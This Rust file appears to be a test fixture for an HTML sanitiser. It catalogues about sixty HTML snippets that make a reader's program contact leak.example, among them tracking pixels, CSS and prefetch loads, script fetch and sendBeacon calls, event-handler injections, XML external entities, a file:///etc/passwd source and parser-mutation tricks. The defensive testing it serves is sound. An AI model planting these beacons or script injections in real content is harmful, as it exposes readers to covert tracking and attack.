//! HTML that asks a reader's program to tell somebody that it was read, one way each.
//!
//! Every address is at `leak.example`. Between "before" and "after" stands what a person would
//! have read of it.

/// A way to ask, its HTML, and the text between.
pub(super) type Leak = (&'static str, &'static str, &'static str);

/// Whatever is known to fetch.
pub(super) const LEAKS: &[Leak] = &[
    (
        "image",
        r#"<img src="http://leak.example/1.gif" width=1 height=1>"#,
        "",
    ),
    (
        "image with words",
        r#"<img src="https://leak.example/2.gif" alt="Our garden">"#,
        "Our garden",
    ),
    (
        "image, other ways to write it",
        r#"<IMG/SRC=http://leak.example/3><image src='//leak.example/4'><img src=`http://leak.example/5`>"#,
        "",
    ),
    (
        "image, broken over lines",
        "<img\n src\n=\n\"http://leak.example/6\"\n>",
        "",
    ),
    (
        "image, in entities",
        "<img src=&#104;&#116;&#116;&#112;&#58;//leak.example/7>",
        "",
    ),
    (
        "srcset",
        r#"<img srcset="http://leak.example/8 1x, http://leak.example/9 2x" sizes="100vw" src="cid:x" alt="">"#,
        "",
    ),
    (
        "picture",
        r#"<picture><source srcset="http://leak.example/10"><source media="(min-width:1px)" srcset="http://leak.example/11"><img src="http://leak.example/12"></picture>"#,
        "",
    ),
    (
        "lowsrc and dynsrc",
        r#"<img lowsrc="http://leak.example/13" dynsrc="http://leak.example/14" longdesc="http://leak.example/15">"#,
        "",
    ),
    (
        "lazy image",
        r#"<img loading="lazy" data-src="http://leak.example/16" src="http://leak.example/17">"#,
        "",
    ),
    (
        "input image",
        r#"<input type="image" src="http://leak.example/18">"#,
        "",
    ),
    (
        "background attribute",
        r#"<table background="http://leak.example/19"><tr background="http://leak.example/20"><td background="http://leak.example/21">cell</td></tr></table>"#,
        "cell",
    ),
    (
        "style attribute",
        r#"<p style="background:url(http://leak.example/22);list-style-image:url('http://leak.example/23');cursor:url(http://leak.example/24),auto">styled</p>"#,
        "styled",
    ),
    (
        "style attribute, escaped",
        r#"<p style="background:\75 rl(http://leak.example/25);content:url(http://leak.example/26);border-image:url(//leak.example/27)">escaped</p>"#,
        "escaped",
    ),
    (
        "style, image-set and filters",
        r#"<p style="background:image-set('http://leak.example/28' 1x);mask:url(http://leak.example/29#m);filter:url(http://leak.example/30#f);-webkit-filter:url(http://leak.example/31)">filtered</p>"#,
        "filtered",
    ),
    (
        "style element",
        r#"<style>body{background:url(http://leak.example/32)} a:visited{background:url(http://leak.example/33)} input[value^=a]{background:url(http://leak.example/34)}</style>"#,
        "",
    ),
    (
        "import",
        r#"<style>@import "http://leak.example/35.css"; @import url(//leak.example/36.css);</style>"#,
        "",
    ),
    (
        "font",
        r#"<style>@font-face{font-family:x;src:url(http://leak.example/37.woff)} p{font-family:x}</style>"#,
        "",
    ),
    (
        "namespace and old behaviours",
        r#"<style>@namespace url(http://leak.example/38);p{behavior:url(http://leak.example/39.htc);-moz-binding:url(http://leak.example/40#x);x:expression(alert(1))}</style>"#,
        "",
    ),
    (
        "media query",
        r#"<style>@media print{body{background:url(http://leak.example/41)}}@media (prefers-color-scheme:dark){p{background:url(http://leak.example/42)}}</style>"#,
        "",
    ),
    (
        "stylesheet",
        r#"<link rel="stylesheet" href="http://leak.example/43.css">"#,
        "",
    ),
    (
        "prefetch",
        r#"<link rel=prefetch href=http://leak.example/44><link rel=prerender href=http://leak.example/45><link rel=preload as=image href=http://leak.example/46><link rel=modulepreload href=http://leak.example/47>"#,
        "",
    ),
    (
        "names and connections ahead",
        r#"<link rel="dns-prefetch" href="//dns.leak.example"><link rel="preconnect" href="https://pre.leak.example"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://anchor.leak.example"></a>"#,
        "",
    ),
    (
        "icons and manifests",
        r#"<link rel=icon href=http://leak.example/48><link rel=apple-touch-icon href=http://leak.example/49><link rel=manifest href=http://leak.example/50><link rel=pingback href=http://leak.example/51>"#,
        "",
    ),
    (
        "refresh",
        r#"<meta http-equiv="refresh" content="0;url=http://leak.example/52">"#,
        "",
    ),
    (
        "policy report",
        r#"<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri http://leak.example/53">"#,
        "",
    ),
    (
        "base",
        r#"<base href="http://leak.example/"><img src="54.gif"><a href="55">there</a>"#,
        "there",
    ),
    (
        "frames",
        r#"<iframe src="http://leak.example/56">frame</iframe><iframe srcdoc="<img src=http://leak.example/57>"></iframe><frameset><frame src="http://leak.example/58"></frameset>"#,
        "",
    ),
    (
        "object",
        r#"<object data="http://leak.example/59" codebase="http://leak.example/60" classid="http://leak.example/61">inside<param name="movie" value="http://leak.example/62"></object>"#,
        "",
    ),
    (
        "embed and applet",
        r#"<embed src="http://leak.example/63" pluginspage="http://leak.example/64"><applet code="x" codebase="http://leak.example/65" archive="http://leak.example/66"></applet>"#,
        "",
    ),
    (
        "video",
        r#"<video poster="http://leak.example/67" src="http://leak.example/68" autoplay><source src="http://leak.example/69"><track default src="http://leak.example/70"></video>"#,
        "",
    ),
    (
        "audio",
        r#"<audio autoplay src="http://leak.example/71"></audio><bgsound src="http://leak.example/72">"#,
        "",
    ),
    (
        "script",
        r#"<script src="http://leak.example/73"></script><script>fetch("http://leak.example/74");navigator.sendBeacon("http://leak.example/75")</script>"#,
        "",
    ),
    (
        "script, other ways",
        r#"<svg/onload=fetch('http://leak.example/76')><img src=x onerror="new Image().src='http://leak.example/77'"><body onload="location='http://leak.example/78'">"#,
        "",
    ),
    (
        "worker and modules",
        r#"<script type="module">import "http://leak.example/79"</script><script type="importmap">{"imports":{"a":"http://leak.example/80"}}</script><script>new WebSocket("ws://leak.example/81")</script>"#,
        "",
    ),
    (
        "svg",
        r#"<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image href="http://leak.example/82" xlink:href="http://leak.example/83"/><use href="http://leak.example/84#x"/><feImage href="http://leak.example/85"/></svg>"#,
        "",
    ),
    (
        "svg, style and script in it",
        r#"<svg><style>@import url(http://leak.example/86)</style><script href="http://leak.example/87"/><foreignObject><img src="http://leak.example/88"></foreignObject><set attributeName=href to=http://leak.example/89 /></svg>"#,
        "",
    ),
    (
        "mathml",
        r#"<math href="http://leak.example/90"><mtext><img src="http://leak.example/91"></mtext><mglyph src="http://leak.example/92"/><annotation-xml encoding="text/html"><img src="http://leak.example/93"></annotation-xml></math>"#,
        "",
    ),
    (
        "form",
        r#"<form action="http://leak.example/94" method="get"><input autofocus onfocus="form.submit()" name="q" value="typed"><button formaction="http://leak.example/95">Send</button><isindex action="http://leak.example/96"></form>"#,
        "Send",
    ),
    (
        "ping",
        r#"<a href="https://shop.example/" ping="http://leak.example/97">shop.example</a>"#,
        "shop.example",
    ),
    (
        "area and map",
        r##"<map name=m><area shape=default href="http://leak.example/98" ping="http://leak.example/99"></map><img usemap="#m" src="http://leak.example/100">"##,
        "",
    ),
    (
        "quotations with sources",
        r#"<blockquote cite="http://leak.example/101">quoted</blockquote><q cite="http://leak.example/102">said</q>"#,
        "> quoted\n\nsaid",
    ),
    (
        "changes with sources",
        r#"<ins cite="http://leak.example/103">new</ins> <del cite="http://leak.example/104">old</del>"#,
        "new old",
    ),
    (
        "content id",
        r#"<img src="cid:part1@leak.example" alt="Plan"><img src="mid:x@leak.example">"#,
        "Plan",
    ),
    (
        "data",
        r#"<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://leak.example/105'/></svg>"><iframe src="data:text/html,<img src=http://leak.example/106>"></iframe>"#,
        "",
    ),
    (
        "other schemes",
        r#"<img src="file:///etc/passwd"><img src="ftp://leak.example/107"><img src="\\leak.example\share\108"><img src="smb://leak.example/109"><img src="blob:http://leak.example/110"><img src="view-source:http://leak.example/111">"#,
        "",
    ),
    (
        "conditional comments",
        r#"<!--[if mso]><img src="http://leak.example/112"><v:fill src="http://leak.example/113"/><![endif]--><!--[if !mso]><!-->shown<!--<![endif]-->"#,
        "shown",
    ),
    (
        "conditional comments, revealed",
        r#"<![if !IE]><img src="http://leak.example/114">revealed<![endif]>"#,
        "revealed",
    ),
    (
        "vml",
        r#"<v:rect fill="t"><v:fill type="frame" src="http://leak.example/115"/><v:imagedata src="http://leak.example/116"/></v:rect>"#,
        "",
    ),
    (
        "xml",
        r#"<?xml-stylesheet href="http://leak.example/117"?><xml src="http://leak.example/118"></xml><!DOCTYPE x SYSTEM "http://leak.example/119"><!ENTITY y SYSTEM "http://leak.example/120">"#,
        "",
    ),
    (
        "profile and others",
        r#"<head profile="http://leak.example/121"></head><html manifest="http://leak.example/122"><table dynsrc="http://leak.example/123"></table>"#,
        "",
    ),
    (
        "noscript",
        r#"<noscript><img src="http://leak.example/124">quiet</noscript>"#,
        "quiet",
    ),
    (
        "template and slots",
        r#"<template><img src="http://leak.example/125"></template><template shadowrootmode="open"><img src="http://leak.example/126"></template><portal src="http://leak.example/127"></portal>"#,
        "",
    ),
    (
        "textarea that never closes a tag",
        r#"<textarea><img src="http://leak.example/128"></textarea>"#,
        "",
    ),
    (
        "a title that breaks out",
        r#"<title></title><img src="http://leak.example/129">"#,
        "",
    ),
    (
        "mutation",
        r#"<listing>&lt;img src=http://leak.example/130&gt;</listing>"#,
        "<img src=http://leak.example/130>",
    ),
    (
        "hidden",
        r#"<div style="display:none"><img src="http://leak.example/131">unseen</div>"#,
        "",
    ),
    (
        "marquee",
        r#"<marquee onstart="fetch('http://leak.example/132')" background="http://leak.example/133">running</marquee>"#,
        "running",
    ),
    (
        "speculation",
        r#"<script type="speculationrules">{"prefetch":[{"urls":["http://leak.example/134"]}]}</script>"#,
        "",
    ),
    (
        "lists and rules",
        r#"<ul style="list-style:url(http://leak.example/135)"><li type="disc" style="background:url(http://leak.example/136)">item</ul>"#,
        "- item",
    ),
    (
        "amp",
        r#"<amp-img src="http://leak.example/137"></amp-img><amp-list src="http://leak.example/138"></amp-list><script async custom-element="amp-form" src="http://leak.example/139"></script>"#,
        "",
    ),
    (
        "keygen, command, menu",
        r#"<menu icon="http://leak.example/140"><menuitem icon="http://leak.example/141"></menu><command icon="http://leak.example/142"><keygen form=x>"#,
        "",
    ),
    (
        "a tag inside a tag",
        r#"<<img src="http://leak.example/143">img src="http://leak.example/144">"#,
        "<img src=\"http://leak.example/144\">",
    ),
    (
        "an attribute without end",
        r#"<img alt="x src="http://leak.example/145" >"#,
        "x src=",
    ),
];
